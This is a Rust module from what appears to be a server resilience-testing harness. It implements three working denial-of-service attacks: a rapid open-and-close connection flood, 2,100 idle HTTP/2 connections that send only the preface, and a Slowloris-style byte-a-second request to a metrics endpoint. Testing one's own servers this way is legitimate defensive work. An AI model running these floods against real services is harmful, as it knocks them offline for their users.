//! Attacks by connections: opened and closed, kept open, or with a request that never ends.

use std::net::SocketAddr;
use std::sync::Arc;

use tokio::io::{AsyncReadExt as _, AsyncWriteExt as _};
use tokio::net::TcpStream;
use tokio::time::{Duration, sleep, timeout};
use tonic::Status;

use super::target::{Target, together};

/// Number of concurrent loops that open and close connections.
const OPENERS: usize = 64;
/// Timeout of one attempt: if the server's accept queue is full, the system retries only after a
/// second.
const OPEN_MAX: Duration = Duration::from_millis(50);
/// Connections that stay open: some more than a server accepts from one address by default.
const OPEN_CONNECTIONS: usize = 2_100;
/// The preface of HTTP/2 (RFC 9113, section 3.4) and an empty SETTINGS frame.
const PREFACE: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n\0\0\0\x04\0\0\0\0\0";
/// Pause before a connection that the server refused or ended is opened again.
pub(super) const AGAIN: Duration = Duration::from_secs(1);
/// Connections to the monitoring address: more than it accepts.
const MONITORING_CONNECTIONS: usize = 100;
/// Time between two bytes of their requests.
const SLOW_BYTE: Duration = Duration::from_secs(1);

/// Opens and closes connections to an address as fast as possible, 64 at a time; an open connection
/// counts as answered.
pub async fn open_and_close(target: Arc<Target>, address: String) {
    together(OPENERS, || open_and_close_one(Arc::clone(&target), address.clone())).await;
}

async fn open_and_close_one(target: Arc<Target>, address: String) {
    loop {
        // Closing with a reset frees the port at once for the next connection.
        let Ok(opened) = timeout(OPEN_MAX, TcpStream::connect(&address)).await else {
            target.refused(1, || "no connection in time".to_owned());
            continue;
        };
        match opened.and_then(|stream| stream.set_zero_linger()) {
            Ok(()) => target.answered(1),
            Err(error) => target.failed(Status::unavailable(error.to_string())).await,
        }
    }
}

/// 2,100 connections send the HTTP/2 preface and nothing more. One that the server answers counts
/// as answered; one that it refuses or ends is opened again.
pub async fn keep_open(target: Arc<Target>) {
    together(OPEN_CONNECTIONS, || keep_one_open(Arc::clone(&target))).await;
}

async fn keep_one_open(target: Arc<Target>) {
    loop {
        let opened = TcpStream::connect(target.authority()).await;
        let kept = match opened {
            Ok(mut stream) => match stream.write_all(PREFACE).await {
                Ok(()) => read_to_end(&target, stream).await,
                Err(error) => error.to_string(),
            },
            Err(error) => error.to_string(),
        };
        target.refused(1, || kept);
        sleep(AGAIN).await;
    }
}

/// Reads until the server closes the connection; returns the text of its GOAWAY, if any.
async fn read_to_end(target: &Target, mut stream: TcpStream) -> String {
    let (mut all, mut some) = (Vec::new(), [0; 256]);
    while let Ok(bytes @ 1..) = stream.read(&mut some).await {
        if all.is_empty() {
            target.answered(1);
        }
        // The server sends little: settings, pings and the end.
        if all.len() < 4096 {
            all.extend_from_slice(&some[..bytes]);
        }
    }
    let text: String = all
        .iter()
        .map(|byte| *byte as char)
        .filter(|c| c.is_ascii_graphic() || *c == ' ')
        .collect();
    format!("the connection ended: {text}")
}

/// 100 connections to the monitoring address send the header of a request byte by byte. A
/// connection that the server ends is opened again.
pub async fn monitoring(target: Arc<Target>, address: SocketAddr) {
    let begin: Arc<[u8]> = Arc::from(&b"GET /metrics HTTP/1.1\r\nX: "[..]);
    let slow = || slow_request(Arc::clone(&target), address, begin.clone());
    together(MONITORING_CONNECTIONS, slow).await;
}

/// Sends the beginning of a request, and then a byte a second. A connection that the server ends is
/// opened again.
pub(super) async fn slow_request(target: Arc<Target>, address: SocketAddr, begin: Arc<[u8]>) {
    loop {
        if let Ok(mut stream) = TcpStream::connect(address).await {
            let begun = stream.write_all(&begin).await;
            if begun.is_ok() {
                target.answered(1);
            }
            let mut answer = [0; 16];
            while stream.write_all(b"x").await.is_ok() {
                if let Ok(Ok(_)) = timeout(SLOW_BYTE, stream.read(&mut answer)).await {
                    break;
                }
            }
        }
        target.refused(1, || "the connection ended".to_owned());
        sleep(AGAIN).await;
    }
}
